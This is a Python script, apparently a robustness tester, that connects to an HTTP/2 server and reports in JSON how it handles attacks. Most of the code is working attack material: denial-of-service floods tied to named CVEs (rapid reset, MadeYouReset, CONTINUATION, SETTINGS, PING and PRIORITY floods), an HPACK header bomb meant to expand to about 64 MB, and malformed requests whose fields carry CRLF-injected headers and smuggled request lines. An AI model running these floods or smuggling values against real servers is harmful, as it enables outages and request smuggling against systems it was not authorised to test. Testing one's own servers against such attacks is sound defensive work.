#!/usr/bin/env python3
"""What an HTTP/2 server at ADDRESS does with floods, bombs and malformed requests, as JSON.

Over cleartext by prior knowledge, with --ca FILE over TLS. NAMEs choose among the attacks. Prints a list of
{"attack": .., "outcome": "status" | "reset" | "goaway" | "closed" | "nothing", "status" or "error": .., "sent": N,
"alive": BOOL}: what came back, how many frames of a flood went out, and whether the server then answered a plain
request on a new connection. It does not judge: what is right is for the caller to say. Every target has the attack's
name in it, so that the caller finds it in the upstream's log. Ends with 1 only if the server cannot be reached.
"""

import argparse
import itertools
import json
import struct
import sys

from h2_wire import Closed, Connection, frame, integer, literal, trusting

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4


def request(name, /, *more, method="GET", **changed):
    """The fields of a good request, with some pseudo-headers changed or (None) left out, and more after them."""
    pseudo = {"method": method, "scheme": "http", "authority": "a.example", "path": f"/{name}"} | changed
    return [(f":{key}", value) for key, value in pseudo.items() if value is not None] + list(more)


# Floods: each yields the frames, and says how many there are at most.


def rapid_reset(connection):
    """CVE-2023-44487: streams that are opened and cancelled at once."""
    cancel = struct.pack(">I", 8)
    for stream in range(1, 20_000, 2):
        yield connection.headers(request("rapid_reset"), stream) + frame(RST_STREAM, 0, stream, cancel)


def made_you_reset(connection):
    """CVE-2025-8671: streams that the server must reset, because a window is incremented by nothing."""
    for stream in range(1, 20_000, 2):
        head = connection.headers(request("made_you_reset", method="POST"), stream, end_stream=False)
        yield head + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation_flood(connection):
    """CVE-2024-27316: a block of fields that never ends."""
    yield frame(HEADERS, END_STREAM, 1, b"".join(literal(*field) for field in request("continuation_flood")))
    for number in range(2_000):
        yield frame(CONTINUATION, 0, 1, literal(f"x-{number}", "v" * 8_000))


def empty_continuation_flood(connection):
    yield frame(HEADERS, END_STREAM, 1, b"".join(literal(*field) for field in request("empty_continuation_flood")))
    for _ in range(200_000):
        yield frame(CONTINUATION, 0, 1)


def empty_data_flood(connection):
    """CVE-2019-9518: frames that carry nothing and end nothing."""
    yield connection.headers(request("empty_data_flood", method="POST"), 1, end_stream=False)
    for _ in range(200_000):
        yield frame(DATA, 0, 1)


def settings_flood(_):
    """CVE-2019-9515: each asks for an acknowledgement, and none is read."""
    return itertools.repeat(frame(SETTINGS, 0, 0), 200_000)


def ping_flood(_):
    """CVE-2019-9512."""
    return itertools.repeat(frame(PING, 0, 0, bytes(8)), 200_000)


def priority_flood(_):
    """CVE-2019-9513: streams that are shuffled and never opened."""
    for number in range(200_000):
        yield frame(PRIORITY, 0, 3 + 2 * (number % 1_000), struct.pack(">IB", 1, number % 256))


def window_update_flood(_):
    return itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 200_000)


def unknown_frame_flood(_):
    """A receiver ignores frames of kinds that it does not know; it need not do so for ever."""
    return itertools.repeat(frame(0xBB, 0, 0, b"x"), 200_000)


def header_bomb(_):
    """One field of 4,000 bytes enters the dynamic table, and then a byte each names it 16,000 times: 64 MB."""
    entry = integer(0, 6, 0x40) + b"\x06x-bomb" + integer(4_000, 7) + b"v" * 4_000
    block = b"".join(literal(*field) for field in request("header_bomb")) + entry + b"\xbe" * 16_000
    first, rest = block[:16_384], block[16_384:]
    yield frame(HEADERS, END_STREAM, 1, first)
    yield frame(CONTINUATION, END_HEADERS, 1, rest)


def many_fields(_):
    block = b"".join(literal(*field) for field in request("many_fields"))
    yield frame(HEADERS, END_STREAM, 1, block)
    for number in range(100):
        yield frame(CONTINUATION, END_HEADERS if number == 99 else 0, 1, literal("x", "y") * 2_000)


FLOODS = [
    rapid_reset, made_you_reset, continuation_flood, empty_continuation_flood, empty_data_flood, settings_flood,
    ping_flood, priority_flood, window_update_flood, unknown_frame_flood, header_bomb, many_fields,
]  # fmt: skip

# Requests that are malformed (RFC 9113, 8.1.1), by name.
MALFORMED = {
    "upper_case_name": request("upper_case_name", ("X-Upper", "v")),
    "space_in_name": request("space_in_name", ("x name", "v")),
    "colon_in_name": request("colon_in_name", ("x:name", "v")),
    "empty_name": request("empty_name", ("", "v")),
    "newline_in_name": request("newline_in_name", ("x\r\ny", "v")),
    "high_byte_in_name": request("high_byte_in_name", (b"x\xe9", "v")),
    "newline_in_value": request("newline_in_value", ("x", "v\r\nhost: smuggled")),
    "line_feed_in_value": request("line_feed_in_value", ("x", "v\nsmuggled: yes")),
    "carriage_return_in_value": request("carriage_return_in_value", ("x", "v\rw")),
    "null_in_value": request("null_in_value", ("x", "v\0w")),
    "space_before_value": request("space_before_value", ("x", " v")),
    "space_after_value": request("space_after_value", ("x", "v ")),
    "connection": request("connection", ("connection", "close")),
    "keep_alive": request("keep_alive", ("keep-alive", "timeout=5")),
    "proxy_connection": request("proxy_connection", ("proxy-connection", "keep-alive")),
    "transfer_encoding": request("transfer_encoding", ("transfer-encoding", "chunked"), method="POST"),
    "upgrade": request("upgrade", ("upgrade", "websocket")),
    "te_gzip": request("te_gzip", ("te", "gzip")),
    "no_method": request("no_method", method=None),
    "no_scheme": request("no_scheme", scheme=None),
    "no_path": request("no_path", path=None, authority="no-path.example"),
    "empty_path": request("empty_path", path="", authority="empty-path.example"),
    "path_without_slash": request("path_without_slash", path="path_without_slash"),
    "asterisk_with_get": request("asterisk_with_get", path="*", authority="asterisk.example"),
    "space_in_path": request("space_in_path", path="/space_in_path HTTP/1.1"),
    "newline_in_path": request("newline_in_path", path="/newline_in_path HTTP/1.1\r\nhost: smuggled"),
    "null_in_path": request("null_in_path", path="/null_in_path\0"),
    "fragment_in_path": request("fragment_in_path", path="/fragment_in_path#f"),
    "space_in_method": request("space_in_method", method="GET /smuggled HTTP/1.1"),
    "empty_method": request("empty_method", method=""),
    "newline_in_method": request("newline_in_method", method="GET\r\nx: y"),
    "newline_in_authority": request("newline_in_authority", authority="a\r\nx: y"),
    "space_in_authority": request("space_in_authority", authority="a b"),
    "userinfo_in_authority": request("userinfo_in_authority", authority="user@a.example"),
    "host_differs": request("host_differs", ("host", "b.example")),
    "two_hosts": request("two_hosts", ("host", "a.example"), ("host", "b.example"), authority=None),
    "no_host": request("no_host", authority=None),
    "path_twice": [*request("path_twice"), (":path", "/path_twice/smuggled")],
    "method_twice": [*request("method_twice"), (":method", "POST")],
    "unknown_pseudo": [*request("unknown_pseudo"), (":foo", "bar")],
    "status_in_request": [*request("status_in_request"), (":status", "200")],
    "pseudo_after_field": [*request("pseudo_after_field", path=None), ("x", "y"), (":path", "/pseudo_after_field")],
    "protocol_without_connect": [*request("protocol_without_connect"), (":protocol", "websocket")],
    "connect": request("connect", method="CONNECT", scheme=None, path=None, authority="a.example:443"),
    "connect_with_path": request("connect_with_path", method="CONNECT"),
    "length_without_body": request("length_without_body", ("content-length", "5"), method="POST"),
    "length_with_plus": request("length_with_plus", ("content-length", "+0"), method="POST"),
    "lengths_differ": request("lengths_differ", ("content-length", "0"), ("content-length", "5"), method="POST"),
}


def post(name, *fields):
    return request(name, *fields, method="POST")


def with_body(connection, fields, *frames):
    return connection.headers(fields, end_stream=False) + b"".join(frames)


# Sequences of frames on stream 1, by name; each is told the connection that it goes to.
SEQUENCES = {
    "body_shorter_than_length": lambda to: with_body(
        to, post("body_shorter_than_length", ("content-length", "10")), frame(DATA, END_STREAM, 1, b"abc")
    ),
    "body_longer_than_length": lambda to: with_body(
        to, post("body_longer_than_length", ("content-length", "3")), frame(DATA, END_STREAM, 1, b"abcGET /smuggled")
    ),
    "pseudo_in_trailers": lambda to: with_body(
        to, post("pseudo_in_trailers"), frame(DATA, 0, 1, b"x"), to.headers([(":path", "/smuggled")])
    ),
    "trailers_without_end": lambda to: with_body(
        to, post("trailers_without_end"), frame(DATA, 0, 1, b"x"), to.headers([("x", "y")], end_stream=False)
    ),
    "upper_case_trailer": lambda to: with_body(
        to, post("upper_case_trailer"), frame(DATA, 0, 1, b"x"), to.headers([("X-Upper", "y")])
    ),
    "data_after_end": lambda to: to.headers(post("data_after_end")) + frame(DATA, END_STREAM, 1, b"x"),
    "data_on_idle_stream": lambda _: frame(DATA, END_STREAM, 1, b"x"),
    "data_on_stream_0": lambda _: frame(DATA, END_STREAM, 0, b"x"),
    "headers_on_even_stream": lambda to: to.headers(request("headers_on_even_stream"), stream=2),
    "stream_ids_go_back": lambda to: to.headers(request("first"), 5) + to.headers(request("stream_ids_go_back"), 1),
    "continuation_of_nothing": lambda _: frame(CONTINUATION, END_HEADERS, 1, literal("x", "y")),
    "ping_within_headers": lambda _: (
        frame(HEADERS, END_STREAM, 1, literal(":method", "GET")) + frame(PING, 0, 0, bytes(8))
    ),
    "frame_too_large": lambda to: with_body(to, post("frame_too_large"), frame(DATA, END_STREAM, 1, bytes(16_385))),
    "ping_of_7_bytes": lambda _: frame(PING, 0, 0, bytes(7)),
    "settings_of_5_bytes": lambda _: frame(SETTINGS, 0, 0, bytes(5)),
    "window_too_large": lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)),
    "window_by_nothing": lambda _: frame(WINDOW_UPDATE, 0, 0, bytes(4)),
    "reset_of_idle_stream": lambda _: frame(RST_STREAM, 0, 1, bytes(4)),
    "push_promise": lambda _: frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + literal(":method", "GET")),
    "unknown_table_index": lambda _: frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\xff\xff\x03"),
    "padding_longer_than_frame": lambda _: frame(HEADERS, END_STREAM | END_HEADERS | 0x8, 1, b"\xff"),
}


def run_flood(connection, flood):
    try:
        sent = connection.flood(flood(connection))
    except Closed:
        return {**connection.ending(), "sent": None}
    # The answer to a ping, which comes after what was sent before it, or the end: whatever comes first.
    answer = connection.counts["PING"]
    try:
        connection.send(frame(PING, 0, 0, b"the last"))
    except Closed:
        return {**connection.ending(), "sent": sent}
    connection.wait(lambda: connection.goaway or connection.counts["PING"] > answer)
    while connection.read(0.2):
        pass
    ending = connection.ending()
    return {**(connection.outcome(1) if ending["outcome"] == "nothing" else ending), "sent": sent}


def run_sequence(connection, data):
    try:
        connection.send(data)
    except Closed:
        pass
    connection.wait(lambda: connection.goaway or 1 in connection.statuses or 1 in connection.resets)
    return connection.outcome(1)


def alive(address, ca):
    """Whether a new connection gets an answer to a plain request, from the server itself or from behind it."""
    with Connection(address, trusting(ca)) as connection:
        return run_sequence(connection, connection.headers(request("alive"))).get("status") is not None


def attacks(kind):
    """Each attack of a kind by its name: what it does with a new connection."""
    if kind in ("floods", "all"):
        for flood in FLOODS:
            yield flood.__name__, lambda to, flood=flood: run_flood(to, flood)
    if kind in ("malformed", "all"):
        for name, fields in MALFORMED.items():
            yield name, lambda to, fields=fields: run_sequence(to, to.headers(fields))
    if kind in ("sequences", "all"):
        for name, frames in SEQUENCES.items():
            yield name, lambda to, frames=frames: run_sequence(to, frames(to))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("names", metavar="NAME", nargs="*")
    parser.add_argument("--ca", help="the authority of the server's certificate, which is localhost's")
    parser.add_argument("--kind", choices=["floods", "malformed", "sequences", "all"], default="all")
    options = parser.parse_intermixed_args()
    known = dict(attacks(options.kind))
    if unknown := [name for name in options.names if name not in known]:
        parser.error(f"no attack is called `{unknown[0]}`; there are {', '.join(known)}")
    done = []
    for name in options.names or known:
        try:
            with Connection(options.address, trusting(options.ca)) as connection:
                outcome = known[name](connection)
            done.append({"attack": name, **outcome, "alive": alive(options.address, options.ca)})
        except (OSError, Closed) as error:
            sys.exit(f"h2_attacks.py: {name}: {options.address} cannot be reached: {error}")
    print(json.dumps(done))


if __name__ == "__main__":
    main()
